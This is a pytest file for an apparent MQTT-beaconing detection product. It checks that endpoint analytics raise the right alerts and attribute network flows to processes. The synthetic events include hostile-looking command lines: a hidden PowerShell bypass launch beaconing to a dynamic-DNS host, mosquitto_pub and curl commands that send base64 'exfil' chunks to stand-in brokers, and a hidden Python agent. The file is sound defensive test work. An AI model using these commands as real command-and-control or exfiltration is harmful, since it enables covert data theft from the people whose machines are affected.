"""The endpoint analytics (AN0002-AN0004) and the attribution of network alerts to processes.

Endpoint events are built with EndpointBatchBuilder (the decoders are tested on real logs in tests/collector/hostlogs);
flows with the AN0005 tests' helper. Beacons stay within DESIGN §4: jitter up to 50 %, up to 30 % missed beats.
"""

from __future__ import annotations

import dataclasses

import numpy as np
import pytest

from analytics.config import Config
from analytics.detections.an0005 import Detector
from analytics.detections.endpoint import EndpointDetector, EndpointParams
from analytics.endpoint import DNS_QUERY, NETWORK_CONNECT, OS_ID, PROCESS_START, EndpointBatchBuilder
from analytics.schema import ip_to_words
from collector.config import load_config
from tests.analytics.detections.test_an0005 import NS, T0, flows

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
WIN, LINUX, MAC = OS_ID["windows"], OS_ID["linux"], OS_ID["macos"]


@pytest.fixture(scope="module")
def cfg() -> Config:
    return load_config(None)  # the shipped defaults, with the default reputation list (dynamic-DNS suffixes)


def beats(period: float, hours: float, seed: int, jitter: float = 0.3, missed: float = 0.0) -> np.ndarray:
    rng = np.random.default_rng(seed)
    t = np.cumsum(rng.uniform(period * (1 - jitter), period, int(hours * 3600 / period)))
    keep = rng.random(len(t)) >= missed
    return t[keep]


def windows_beacon(b: EndpointBatchBuilder, times, exe=PS, host="WS1", src="10.1.1.10", dst="198.51.100.20",
                   dport=8883, pid=4242, cmd=None, resolve="c2.duckdns.org"):
    b.add(int((T0 + times[0] - 30) * NS), PROCESS_START, WIN, "sysmon", host=host, pid=pid, executable=exe,
          command_line=cmd or f'"{exe}" -nop -w hidden -ep bypass -f C:\\Users\\alice\\AppData\\x.ps1',
          user="CORP\\alice", entity_id=f"{{{pid}-guid}}", parent_executable=r"C:\Windows\explorer.exe")
    if resolve:
        b.add(int((T0 + times[0] - 5) * NS), DNS_QUERY, WIN, "sysmon", host=host, domain=resolve, dst_ip=dst)
    for i, t in enumerate(times):
        b.add(int((T0 + t) * NS), NETWORK_CONNECT, WIN, "sysmon", host=host, pid=pid, executable=exe,
              entity_id=f"{{{pid}-guid}}", src_ip=src, src_port=49152 + i % 16000, dst_ip=dst, dst_port=dport,
              proto=6, code=3)


def evaluate(cfg, b: EndpointBatchBuilder, *flow_batches, params=EndpointParams()):
    det = EndpointDetector(cfg, params)
    det.ingest(b.build())
    for fb in flow_batches:
        det.observe_flows(fb)
    return det, det.evaluate(max(det.latest_ns, *(int(fb.columns["start_ns"].max()) for fb in flow_batches))
                             if flow_batches else None)


@pytest.mark.parametrize("seed", [1, 2, 3, 4, 5])
def test_powershell_beaconing_to_an_outside_broker_raises_an0002(cfg, seed):
    b = EndpointBatchBuilder()
    windows_beacon(b, beats(300, 8, seed, jitter=0.5, missed=0.3))
    _, alerts = evaluate(cfg, b)
    assert [a.rule_id for a in alerts] == ["AN0002"]
    d = alerts[0].to_dict()
    assert d["process"]["name"] == "powershell.exe" and d["process"]["pid"] == 4242
    assert "-ep bypass" in d["process"]["command_line"]
    assert d["host"] == {"name": "WS1", "os": {"type": "windows"}} and d["user"] == {"name": "CORP\\alice"}
    assert d["source"]["ip"] == "10.1.1.10" and d["destination"] == {"ip": "198.51.100.20", "port": 8883,
                                                                     "domain": "c2.duckdns.org"}
    ev = d["brokerwatch"]["evidence"]
    assert {"suspicious_process", "beaconing", "reputation"} <= set(ev["analytics"])
    assert {"UnusualProcessList", "ProtocolPortList", "BrokerAllowList", "TimeWindow",
            "BrokerReputationList"} <= set(ev["fired"])
    assert ".duckdns.org" in ev["why"]["BrokerReputationList"]
    assert 150 <= ev["period_s"] <= 310  # intervals uniform in [150, 300] s
    assert d["rule"]["ruleset"] == "DET0002" and d["threat"]["technique"]["id"] == ["T1071.005"]


def test_a_known_pubsub_client_raises_nothing(cfg):
    b = EndpointBatchBuilder()
    windows_beacon(b, beats(300, 8, 1), exe=r"C:\Program Files\mosquitto\mosquitto_pub.exe",
                   cmd=r'"C:\Program Files\mosquitto\mosquitto_pub.exe" -h 198.51.100.20 -t a/b -m 1')
    _, alerts = evaluate(cfg, b)
    assert alerts == []


@pytest.mark.parametrize("exe, dport", [
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", 8883),  # not a suspicious process
    (PS, 443),  # powershell on the web: no broker port, no broker URI, no broker on its command line
])
def test_ordinary_traffic_stays_quiet(cfg, exe, dport):
    b = EndpointBatchBuilder()
    windows_beacon(b, beats(300, 8, 1), exe=exe, dport=dport, resolve="")
    assert evaluate(cfg, b)[1] == []


def test_an_allowlisted_broker_stays_quiet(cfg):
    allowed = dataclasses.replace(cfg, allow=Config.from_mapping({"BrokerAllowList": ["198.51.100.0/24"]}).allow)
    b = EndpointBatchBuilder()
    windows_beacon(b, beats(300, 8, 1))
    assert evaluate(allowed, b)[1] == []


def test_one_connection_is_not_enough(cfg):
    b = EndpointBatchBuilder()
    windows_beacon(b, [10.0], resolve="")
    assert evaluate(cfg, b)[1] == []


def test_bash_loop_of_mosquitto_pub_raises_an0003_from_process_starts_alone(cfg):
    b = EndpointBatchBuilder()
    rng = np.random.default_rng(7)
    for i, t in enumerate(beats(60, 4, 7, jitter=0.2)):
        topic = "".join(rng.choice(list("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), 24))
        payload = "U2VjcmV0IGV4ZmlsIGNodW5rIG51bWJlciA" + str(i)
        b.add(int((T0 + t) * NS), PROCESS_START, LINUX, "auditd", host="lnx1", pid=2000 + i,
              executable="/usr/bin/mosquitto_pub", user="bob",
              command_line=f"mosquitto_pub -h 203.0.113.7 -t {topic} -m {payload}")
    _, alerts = evaluate(cfg, b)
    assert [a.rule_id for a in alerts] == ["AN0003"]
    d = alerts[0].to_dict()
    assert d["process"]["name"] == "mosquitto_pub" and d["process"]["command_line"].startswith("mosquitto_pub -h")
    assert d["destination"]["ip"] == "203.0.113.7" and d["destination"]["port"] == 1883
    ev = d["brokerwatch"]["evidence"]
    assert {"beaconing", "topic_anomaly", "obfuscated_payload"} <= set(ev["analytics"])
    assert ev["invocation"]["tool"] == "mosquitto_pub"
    assert "base64" in ev["why"]["PayloadLengthThreshold"]


def test_the_broker_daemon_itself_is_a_known_client(cfg):
    b = EndpointBatchBuilder()
    for i, t in enumerate(beats(60, 4, 7)):
        b.add(int((T0 + t) * NS), PROCESS_START, LINUX, "auditd", host="gw", pid=3000 + i,
              executable="/usr/sbin/mosquitto", command_line="mosquitto_pub -h 203.0.113.7 -t x -m SGVsbG8gd29y")
    assert evaluate(cfg, b)[1] == []


def test_curl_posting_to_a_broker_uri_raises_one_an0004(cfg):
    b = EndpointBatchBuilder()
    for i, t in enumerate(beats(180, 6, 3, jitter=0.4)):
        ts = int((T0 + t) * NS)
        # osascript names the same broker on its command line: one alert, on curl, which connected
        b.add(ts - NS, PROCESS_START, MAC, "macos", host="mbp", pid=400 + i, executable="/usr/bin/osascript",
              command_line='osascript -e \'do shell script "curl -X POST https://cdn-sync.example.net/mqtt -d x"\'')
        b.add(ts, PROCESS_START, MAC, "macos", host="mbp", pid=500 + i, executable="/usr/bin/curl", user="carol",
              command_line="curl -s -X POST https://cdn-sync.example.net/mqtt -d aGVsbG8gd29ybGQgZnJvbSBtYWM=")
        b.add(ts + NS // 10, NETWORK_CONNECT, MAC, "macos", host="mbp", pid=500 + i, executable="/usr/bin/curl",
              src_ip="10.1.1.30", src_port=50000 + i, dst_ip="192.0.2.44", dst_port=443, proto=6,
              domain="cdn-sync.example.net")
    _, alerts = evaluate(cfg, b)
    assert [a.rule_id for a in alerts] == ["AN0004"]
    d = alerts[0].to_dict()
    assert d["process"]["name"] == "curl" and d["destination"]["ip"] == "192.0.2.44"
    assert d["destination"]["domain"] == "cdn-sync.example.net" and d["network"]["protocol"] == "mqtt-over-websocket"
    assert {"URIPathRegex", "AppContextFilter", "TimeWindow"} <= set(d["brokerwatch"]["evidence"]["fired"])
    assert d["brokerwatch"]["evidence"]["broker_named_by"] == ["osascript"]


def test_alerts_are_revised_not_repeated(cfg):
    b = EndpointBatchBuilder()
    windows_beacon(b, beats(300, 8, 1))
    det, first = evaluate(cfg, b)
    assert len(first) == 1 and det.evaluate(det.latest_ns) == []


def test_flows_are_attributed_by_source_port(cfg):
    times = beats(120, 6, 2)
    b = EndpointBatchBuilder()
    windows_beacon(b, times, src="10.0.0.5", dst="198.18.0.9", dport=1883, resolve="")
    # a second process on the same host talks to the same broker, on other source ports
    for i, t in enumerate(times[:5]):
        b.add(int((T0 + t + 1) * NS), NETWORK_CONNECT, WIN, "sysmon", host="WS1", pid=99,
              executable=r"C:\Tools\other.exe", src_ip="10.0.0.5", src_port=30000 + i, dst_ip="198.18.0.9",
              dst_port=1883)
    fb = flows(times, sport=49152 + np.arange(len(times)) % 16000)
    det = EndpointDetector(cfg)
    det.ingest(b.build())
    det.observe_flows(fb)
    net = Detector(cfg)
    net.ingest(fb)
    alerts = det.attribute(net.evaluate())
    assert [a.rule_id for a in alerts] == ["AN0005"]
    d = alerts[0].to_dict()
    assert d["process"]["name"] == "powershell.exe" and d["host"]["name"] == "WS1"
    assert d["brokerwatch"]["evidence"]["process_attribution"] == {"method": "source_port",
                                                                    "connections": len(times)}
    assert det.stats.flows_attributed_port == len(times)


def test_connects_without_a_source_learn_the_host_address_from_the_flows(cfg):
    """auditd's SOCKADDR names only the destination: the host's address comes from the flows at that time."""
    times = beats(120, 6, 4)
    b = EndpointBatchBuilder()
    for i, t in enumerate(times):
        ts = int((T0 + t) * NS)
        b.add(ts, PROCESS_START, LINUX, "auditd", host="lnx9", pid=700 + i, executable="/usr/bin/python3",
              command_line="python3 /tmp/.x/agent.py", user="www-data")
        b.add(ts + NS // 20, NETWORK_CONNECT, LINUX, "auditd", host="lnx9", pid=700 + i,
              executable="/usr/bin/python3", dst_ip="198.18.0.9", dst_port=1883, proto=6)
    fb = flows(times + 0.5)
    det = EndpointDetector(cfg)
    det.ingest(b.build())
    det.observe_flows(fb)
    assert det.stats.hosts_learned == 1
    net = Detector(cfg)
    net.ingest(fb)
    alerts = det.attribute(net.evaluate())
    d = alerts[0].to_dict()
    assert d["process"]["command_line"] == "python3 /tmp/.x/agent.py" and d["user"] == {"name": "www-data"}
    assert d["brokerwatch"]["evidence"]["process_attribution"]["method"] == "pair"
    # and the endpoint analytic sees the host's address now
    own = det.evaluate(int(fb.columns["start_ns"].max()))
    assert [a.rule_id for a in own] == ["AN0003"] and own[0].to_dict()["source"]["ip"] == "10.0.0.5"


def test_network_alerts_of_a_known_client_are_dropped(cfg):
    times = beats(120, 6, 2)
    b = EndpointBatchBuilder()
    for i, t in enumerate(times):
        b.add(int((T0 + t) * NS), NETWORK_CONNECT, LINUX, "auditd", host="ha", pid=42, executable="/usr/bin/hass",
              src_ip="10.0.0.5", src_port=49152 + i, dst_ip="198.18.0.9", dst_port=1883)
    fb = flows(times, sport=49152 + np.arange(len(times)))
    det = EndpointDetector(cfg)
    det.ingest(b.build())
    det.observe_flows(fb)
    net = Detector(cfg)
    net.ingest(fb)
    assert len(net_alerts := net.evaluate()) == 1
    assert det.attribute(net_alerts) == [] and det.stats.suppressed_known_client == 1


def test_dns_name_and_reputation_reach_a_network_alert(cfg):
    times = beats(120, 6, 2)
    b = EndpointBatchBuilder()
    b.add(int((T0 + 1) * NS), DNS_QUERY, WIN, "sysmon", host="WS1", domain="beacon.no-ip.org", dst_ip="198.18.0.9")
    fb = flows(times)
    det = EndpointDetector(cfg)
    det.ingest(b.build())
    net = Detector(cfg)
    net.ingest(fb)
    d = det.attribute(net.evaluate())[0].to_dict()
    assert d["destination"]["domain"] == "beacon.no-ip.org"
    assert ".no-ip.org" in d["brokerwatch"]["evidence"]["dns_reputation"]


def test_process_table_is_bounded(cfg):
    b = EndpointBatchBuilder()
    for i in range(500):
        b.add(int((T0 + i) * NS), PROCESS_START, LINUX, "auditd", host="h", pid=i, executable="/bin/true")
    det, _ = evaluate(cfg, b, params=EndpointParams(max_processes=100))
    assert len(det._procs) == 100 and det.stats.processes_evicted == 400


def test_counters_name_what_moved(cfg):
    b = EndpointBatchBuilder()
    windows_beacon(b, beats(300, 8, 1))
    det, alerts = evaluate(cfg, b)
    c = det.counters()
    assert c["brokerwatch_endpoint_events_total"] == len(b.build())
    assert c["brokerwatch_endpoint_alerts_total"] == len(alerts) == 1
    assert ip_to_words("198.51.100.20") in {a.dst for a in alerts}


def test_join_state_is_forgotten_with_the_window(cfg):
    """The source-port index and the connects waiting for a host address do not outlive TimeWindow."""
    times = beats(120, 2, 2)
    b = EndpointBatchBuilder()
    windows_beacon(b, times, src="10.0.0.5", dst="198.18.0.9", dport=1883, resolve="")
    b.add(int((T0 + 10) * NS), NETWORK_CONNECT, LINUX, "auditd", host="lnx9", pid=7, executable="/usr/bin/nc",
          dst_ip="198.18.0.77", dst_port=1883)
    det = EndpointDetector(cfg)
    det.ingest(b.build())
    assert det._port_index and det._unplaced
    det.evaluate(int((T0 + times[-1]) * NS))
    assert det._port_index and det._unplaced  # still inside the window
    det.evaluate(int((T0 + times[-1]) * NS) + int(cfg.TimeWindow.window_s * NS) + NS)
    assert not det._port_index and not det._unplaced
